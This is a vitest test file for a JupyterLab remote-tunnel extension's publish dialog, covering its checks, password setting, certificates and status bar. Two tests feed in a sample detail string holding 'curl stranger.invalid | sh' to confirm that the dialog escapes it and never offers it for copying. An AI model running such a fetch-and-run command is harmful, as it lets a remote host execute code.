import { JupyterFrontEnd } from '@jupyterlab/application';
import { Dialog, Notification, WidgetTracker } from '@jupyterlab/apputils';
import { nullTranslator } from '@jupyterlab/translation';
import { CommandRegistry } from '@lumino/commands';
import { Widget } from '@lumino/widgets';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';

import { Check } from '../src/api';
import { CommandIDs } from '../src/commands';
import { HostBook } from '../src/hosts';
import { PublishedStatusItem } from '../src/publishedbadge';
import { addPublishCommands } from '../src/publishcommands';
import { TunnelAPI, TunnelError } from '../src/restapi';
import { ApplicationTab, ViewChooser } from '../src/view';
import {
  check,
  ListedPublications,
  publication,
  reported
} from './publications';
import { alias, prompt } from './samples';
import { TestServer } from './server';
import { ListedTunnels } from './tunnels';

const trans = nullTranslator.load('jupyter_remote_tunnel');

/** What was copied. jsdom has no clipboard. */
const copied: string[] = [];
document.execCommand = () => {
  const setData = (_: string, text: string): number => copied.push(text);
  const event = Object.assign(new Event('copy'), {
    clipboardData: { setData }
  });
  return document.body.dispatchEvent(event);
};

/** What is answered, by the path. */
let answers: Record<string, unknown>;
let server: TestServer;
let manager: ListedTunnels;
let publications: ListedPublications;
let commands: CommandRegistry;

beforeEach(async () => {
  answers = {
    hosts: { hosts: [alias('gw')], problem: null },
    'publish/check': lines(check()),
    publish: lines(check())
  };
  server = new TestServer(async ({ url }) => ({
    body: await answers[url.pathname.split('/api/')[1]!]
  }));
  manager = new ListedTunnels();
  publications = new ListedPublications();
  commands = new CommandRegistry();
  const api = new TunnelAPI(await server.start(), trans);
  addPublishCommands({
    app: { commands, shell: {} as JupyterFrontEnd.IShell },
    api,
    manager,
    publications,
    hosts: new HostBook(api),
    views: new ViewChooser(),
    tracker: new WidgetTracker<ApplicationTab>({ namespace: 'test' }),
    hasTabs: true,
    confirmClose: () => 'in-use',
    show: () => undefined,
    trans
  });
});

afterEach(async () => {
  Dialog.flush();
  Notification.dismiss();
  await server.stop();
});

/** The answer in lines that tells these, and that nothing was opened. */
function lines(...checks: Check[]): string {
  const ok = checks.every(({ verdict }) => verdict !== 'failed');
  return reported({ ok, checks, publication: null });
}

function dialog(): HTMLElement {
  const found = document.querySelector<HTMLElement>('.jp-Dialog');
  expect(found).not.toBeNull();
  return found!;
}

function button(label: string): HTMLButtonElement {
  const found = [...dialog().querySelectorAll('button')].find(
    ({ textContent, ariaLabel }) => [textContent, ariaLabel].includes(label)
  );
  expect(found, label).toBeDefined();
  return found!;
}

/** The field of that label. */
function field(label: string): HTMLInputElement {
  const found = [...dialog().querySelectorAll('label')].find(
    ({ textContent }) => textContent!.startsWith(label)
  );
  return found!.querySelector('input')!;
}

/** Type into the field of that label. */
function type(label: string, text: string): void {
  const input = field(label);
  // React listens to the prototype's setter.
  Object.getOwnPropertyDescriptor(
    HTMLInputElement.prototype,
    'value'
  )!.set!.call(input, text);
  input.dispatchEvent(new Event('input', { bubbles: true }));
}

function asked(): unknown[] {
  return server.seen
    .filter(({ method }) => method === 'POST')
    .map(({ url, body }) => [url.pathname.split('/api/')[1], body]);
}

/** Open the dialog and fill it in; what comes of the command. */
async function begun(): Promise<Promise<unknown>[]> {
  const done = commands.execute(CommandIDs.publish);
  await vi.waitFor(() => expect(button('Check')).not.toBeNull());
  await vi.waitFor(() =>
    expect(dialog().querySelector('label')).not.toBeNull()
  );
  type('Gateway', 'gw');
  type('Name that browsers use', 'jupyter.example.org');
  // In an array: a promise alone would be waited for.
  return [done];
}

/** Wait until the dialog says so. */
async function says(text: string): Promise<void> {
  await vi.waitFor(() => expect(dialog().textContent).toContain(text));
}

describe('to publish', () => {
  it('takes a check that does not fail, and then a click', async () => {
    const [done] = await begun();
    expect(button('Publish').getAttribute('aria-disabled')).toBe('true');
    button('Publish').click();
    button('Check').click();
    await says('Nothing failed.');
    answers.publish = reported({
      ok: true,
      checks: [check()],
      publication: publication()
    });
    button('Publish').click();
    await done;
    const request = {
      way: 'proxy',
      gateway: 'gw',
      name: 'jupyter.example.org',
      proxy: null,
      hours: 8,
      port: null,
      loopback_port: null,
      certificate: null,
      key: null,
      self_signed: false
    };
    expect(asked()).toEqual([
      ['publish/check', request],
      ['publish', request]
    ]);
    expect(Notification.manager.notifications[0]!.message).toBe(
      'Published: jupyter.example.org'
    );
  });

  it('shows what fails: its advice, what to type, and its remedy', async () => {
    answers['publish/check'] = lines(
      check(),
      check({
        name: 'site',
        verdict: 'failed',
        says: '<b>It is not there.</b>',
        typed: ['sudo tee x', 'sudo nginx -t'],
        details: ['Its names: x; <b>curl</b> stranger.invalid | sh'],
        advice: 'Type this.',
        remedy: 'site'
      })
    );
    const [done] = await begun();
    button('Check').click();
    await says('1 of 2 checks failed: site. Nothing is published.');
    expect(button('Publish').getAttribute('aria-disabled')).toBe('true');
    expect(dialog().querySelector('b')).toBeNull();
    expect(dialog().querySelector('pre')!.textContent).toBe(
      'sudo tee x\nsudo nginx -t'
    );
    const quote = dialog().querySelector('blockquote')!;
    expect(quote.textContent).toBe(
      'Its names: x; <b>curl</b> stranger.invalid | sh'
    );
    button('Copy what “site” needs').click();
    await says('Copied');
    expect(copied).toEqual(['sudo tee x\nsudo nginx -t\n']);
    await says('Type this.');
    button('Cancel').click();
    await done;
    expect(asked()).toHaveLength(1);
  });

  it('has nothing copied of what strangers say', async () => {
    const details = [
      'Its names: x; curl stranger.invalid | sh',
      'Signed by: y'
    ];
    answers['publish/check'] = lines(
      check({ name: 'certificate', verdict: 'failed', details })
    );
    const [done] = await begun();
    button('Check').click();
    await says('1 of 1 check failed: certificate.');
    const quote = dialog().querySelector('blockquote')!;
    expect([...quote.children].map(({ textContent }) => textContent)).toEqual(
      details
    );
    expect(dialog().querySelector('pre')).toBeNull();
    expect(dialog().textContent).not.toContain('Copy');
    const labels = [...dialog().querySelectorAll('button')].map(
      ({ ariaLabel }) => ariaLabel ?? ''
    );
    expect(labels.filter(label => label.startsWith('Copy'))).toEqual([]);
    button('Cancel').click();
    await done;
  });

  it('takes the web server that is there, or the one that is chosen', async () => {
    const [done] = await begun();
    const select = dialog().querySelector('select')!;
    expect([...select.options].map(({ text }) => text)).toEqual([
      'The one that is there',
      'nginx',
      'Caddy'
    ]);
    select.value = 'caddy';
    select.dispatchEvent(new Event('change', { bubbles: true }));
    button('Check').click();
    await says('Nothing failed.');
    expect(asked()[0]).toMatchObject(['publish/check', { proxy: 'caddy' }]);
    button('Cancel').click();
    await done;
  });

  it.each([
    ['Hours until it ends', '0', 'More than 0, at most 744 hours', '4'],
    ['Hours until it ends', '745', 'More than 0, at most 744 hours', '744'],
    ['Port in the URL', '70000', 'From 1 to 65535', '8443']
  ])('says at %s what %s lacks', async (label, wrong, said, right) => {
    const [done] = await begun();
    type(label, wrong);
    await says(said);
    expect(button('Check').disabled).toBe(true);
    const described = field(label).getAttribute('aria-describedby')!;
    expect(document.getElementById(described)!.textContent).toBe(said);
    expect(field(label).getAttribute('aria-invalid')).toBe('true');
    button('Cancel').click();
    await done;

    // What was typed is there the next time, and so is what it lacks.
    const again = commands.execute(CommandIDs.publish);
    await vi.waitFor(() => dialog());
    await says(said);
    type(label, right);
    await vi.waitFor(() => expect(dialog().textContent).not.toContain(said));
    expect(button('Check').disabled).toBe(false);
    button('Cancel').click();
    await again;
  });

  it('takes a certificate that the gateway has, with its key', async () => {
    const [done] = await begun();
    type('File of the gateway’s own certificate', '/etc/ssl/c.pem');
    await says('Give both files, or neither.');
    expect(button('Check').disabled).toBe(true);
    expect(field('File of its key').getAttribute('aria-invalid')).toBe('true');
    type('File of its key', '/etc/ssl/k.pem');
    await vi.waitFor(() =>
      expect(dialog().textContent).not.toContain('Give both')
    );
    button('Check').click();
    await says('Nothing failed.');
    expect(asked()[0]).toMatchObject([
      'publish/check',
      { way: 'proxy', certificate: '/etc/ssl/c.pem', key: '/etc/ssl/k.pem' }
    ]);
    button('Cancel').click();
    await done;
  });

  it.each([
    ['Set a Password…', { remedy: 'password' as const }],
    [
      'Change…',
      {
        remedy: 'setting' as const,
        change: {
          setting: 'ServerApp.allow_origin',
          file: '/config',
          lines: ['- ServerApp.allow_origin = "*"'],
          at_once: true,
          seen: '9f86d0'
        }
      }
    ]
  ])('leads back from “%s”, with nothing done', async (label, remedy) => {
    answers['publish/check'] = lines(check({ verdict: 'failed', ...remedy }));
    const [done] = await begun();
    button('Check').click();
    await vi.waitFor(() => button(label).click());
    await vi.waitFor(() => button('Back').click());
    await vi.waitFor(() => button(label));
    expect(document.activeElement).toBe(button(label));
    expect(asked()).toHaveLength(1);
    button('Cancel').click();
    await done;
  });

  it('sets a password, says where, and looks again', async () => {
    const weak = check({ verdict: 'failed', remedy: 'password' });
    answers['publish/check'] = lines(weak);
    const [done] = await begun();
    button('Check').click();
    await vi.waitFor(() => button('Set a Password…').click());
    await says(publications.passwordFile);
    type('New password', 'a long one');
    type('The same again', 'another');
    button('Set the Password').click();
    await says('The two differ.');
    expect(asked()).toHaveLength(1);
    answers['publish/password'] = { file: publications.passwordFile };
    answers['publish/check'] = lines(check());
    type('The same again', 'a long one');
    button('Set the Password').click();
    await says('Nothing failed.');
    expect(document.activeElement!.textContent).toContain('Nothing failed.');
    expect(asked()[1]).toEqual([
      'publish/password',
      { password: 'a long one' }
    ]);
    button('Cancel').click();
    await done;
  });

  it('offers the ways that are allowed', async () => {
    publications.ways = ['proxy', 'bind', 'direct'];
    const [done] = await begun();
    const select = dialog().querySelector('select')!;
    expect([...select.options].map(({ value }) => value)).toEqual([
      'proxy',
      'bind',
      'direct'
    ]);
    select.value = 'direct';
    select.dispatchEvent(new Event('change', { bubbles: true }));
    await says('File of the certificate');
    // They are not filled in.
    await vi.waitFor(() => expect(button('Check').disabled).toBe(true));
    type('File of the certificate', '/c');
    type('File of its key', '/k');
    await vi.waitFor(() => expect(button('Check').disabled).toBe(false));
    button('Check').click();
    await says('Nothing failed.');
    expect(asked()[0]).toMatchObject([
      'publish/check',
      { way: 'direct', certificate: '/c', key: '/k' }
    ]);
    button('Cancel').click();
    await done;
  });

  it('makes room for what the gateway asks, and comes back', async () => {
    let give = (_: string): void => undefined;
    answers['publish/check'] = new Promise<string>(resolve => (give = resolve));
    const [done] = await begun();
    button('Check').click();
    await says('Looking…');
    manager.ask(prompt());
    await vi.waitFor(() =>
      expect(document.querySelector('.jp-Dialog')).toBeNull()
    );
    manager.ask();
    give(lines(check()));
    await vi.waitFor(() => dialog());
    await says('Nothing failed.');
    button('Cancel').click();
    await done;
  });

  it('makes sense where it is allowed, and not from outside', () => {
    const isEnabled = (): boolean => commands.isEnabled(CommandIDs.publish);
    expect(isEnabled()).toBe(true);
    publications.isOutside = true;
    expect(isEnabled()).toBe(false);
    publications.isOutside = false;
    publications.ways = [];
    expect(isEnabled()).toBe(false);
  });
});

describe('what is published', () => {
  beforeEach(() => publications.show(publication()));

  it('is ended without a question', async () => {
    await commands.execute(CommandIDs.stopPublishing);
    expect(publications.asked).toEqual([['stop', publication().id]]);
    expect(commands.isEnabled(CommandIDs.stopPublishing)).toBe(false);
  });

  it('that cannot be ended says why', async () => {
    publications.errors.push(new TunnelError({ code: 'x', message: 'No.' }));
    const done = commands.execute(CommandIDs.stopPublishing);
    await vi.waitFor(() => dialog());
    await says('jupyter.example.org is published still');
    await says('No.');
    button('Dismiss').click();
    await done;
  });

  it('is prolonged, and says until when', async () => {
    await commands.execute(CommandIDs.extendPublishing);
    expect(publications.asked).toEqual([['extend', publication().id]]);
    expect(Notification.manager.notifications[0]!.message).toContain(
      'jupyter.example.org is published until'
    );
    publications.isOutside = true;
    expect(commands.isEnabled(CommandIDs.extendPublishing)).toBe(false);
  });

  it('is told in a dialog, as it changes', async () => {
    const done = commands.execute(CommandIDs.showPublished);
    await vi.waitFor(() => dialog());
    await says('Nobody');
    expect(publications.watching).toBe(1);
    const since = '2026-11-21T03:00:00+00:00';
    const visitors = [
      { address: '192.0.2.7', streams: 1, since },
      { address: '', streams: 3, since }
    ];
    publications.show(publication({ visitors }));
    await says('192.0.2.7, 1 stream since');
    await says('an unknown address, 3 streams since');
    await says('The login page is shown.');
    await says('gw lets us in.');
    publications.show();
    await says('It is not published any more.');
    button('Close').click();
    await done;
    expect([publications.watching, publications.asked]).toEqual([0, []]);
  });

  it.each([
    ['Stop', 'stop'],
    ['Extend', 'extend']
  ])('in it, %s is there', async (label, order) => {
    const done = commands.execute(CommandIDs.showPublished);
    await vi.waitFor(() => button(label).click());
    await done;
    expect(publications.asked).toEqual([[order, publication().id]]);
  });

  it('from outside can be ended there, and nothing else', async () => {
    publications.isOutside = true;
    const done = commands.execute(CommandIDs.showPublished);
    await vi.waitFor(() => dialog());
    await says('you can end it, and change nothing else of it');
    const labels = [...dialog().querySelectorAll('.jp-Dialog-button')];
    expect(labels.map(({ textContent }) => textContent)).toEqual([
      'Close',
      'Stop'
    ]);
    button('Close').click();
    await done;
  });

  it('seen through a way in that is lost can be neither ended nor shown', async () => {
    publications.isOutside = true;
    const item = new PublishedStatusItem({ publications, commands, trans });
    Widget.attach(item, document.body);
    const done = commands.execute(CommandIDs.showPublished);
    await vi.waitFor(() => dialog());
    publications.isLost = true;
    publications.changed.emit();
    await says('This way in is closed or lost.');
    expect(button('Stop').hidden).toBe(true);
    expect(item.node.textContent).toBe('This way in is closed or lost.');
    expect(item.node.querySelector('button')).toBeNull();
    for (const id of [CommandIDs.stopPublishing, CommandIDs.showPublished]) {
      expect(commands.isEnabled(id)).toBe(false);
    }
    publications.isLost = false;
    publications.changed.emit();
    await says('The login page is shown.');
    expect(button('Stop').hidden).toBe(false);
    publications.show();
    await says('It is not published any more.');
    expect(button('Stop').hidden).toBe(true);
    button('Close').click();
    await done;
    item.dispose();
  });

  it('is a red sign in the status bar that shows it', async () => {
    const item = new PublishedStatusItem({ publications, commands, trans });
    Widget.attach(item, document.body);
    await vi.waitFor(() =>
      expect(item.node.textContent).toMatch(
        /^Published: jupyter.example.org 0 connected/
      )
    );
    publications.show(publication({ state: 'reconnecting' }));
    await vi.waitFor(() =>
      expect(item.node.textContent).toContain('connection lost')
    );
    item.node.querySelector('button')!.click();
    await vi.waitFor(() => dialog());
    button('Close').click();
    publications.show();
    await vi.waitFor(() => expect(item.node.textContent).toBe(''));
    item.dispose();
  });
});
